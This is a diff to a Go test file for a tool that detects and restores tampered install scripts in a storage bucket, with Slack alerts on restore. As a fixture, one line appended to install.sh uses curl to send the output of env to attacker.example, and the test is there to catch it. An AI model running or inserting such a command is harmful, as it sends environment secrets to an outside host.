@@ -5,10 +5,13 @@ import (
 	"context"
 	"encoding/json"
 	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 
 	"cloud.google.com/go/storage"
@@ -185,3 +188,38 @@ func TestAuditCommand(t *testing.T) {
 }
 
 func itoa(n int64) string { return strconv.FormatInt(n, 10) }
+
+// check --restore alerts through an incoming webhook: one message saying what was injected
+// and that it was undone.
+func TestCheckRestoreAlertsSlack(t *testing.T) {
+	b := newBucketEnv(t)
+	var mu sync.Mutex
+	var posts []string
+	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		posts = append(posts, string(body))
+		mu.Unlock()
+		w.Write([]byte("ok"))
+	}))
+	defer hook.Close()
+	b.env.getenv = func(k string) string {
+		if k == "SLACK_WEBHOOK_URL" {
+			return hook.URL + "/services/T000/B000/secret"
+		}
+		return ""
+	}
+	good := goodInstallSh(t)
+	b.put("install.sh", good)
+	b.put("install.sh", append(append([]byte(nil), good...), "curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n"...))
+
+	code := b.run("check", "--config", b.cfg, "--restore", "gs://uploader-prod/install.sh")
+	assert.Equal(t, exitTampered, code, b.err.String())
+	assert.Equal(t, "restored", b.lines()[0].Action)
+	mu.Lock()
+	defer mu.Unlock()
+	require.Len(t, posts, 1)
+	assert.Contains(t, posts[0], "restored")
+	assert.Contains(t, posts[0], "attacker[.]example")
+	assert.NotContains(t, b.err.String(), "secret")
+}
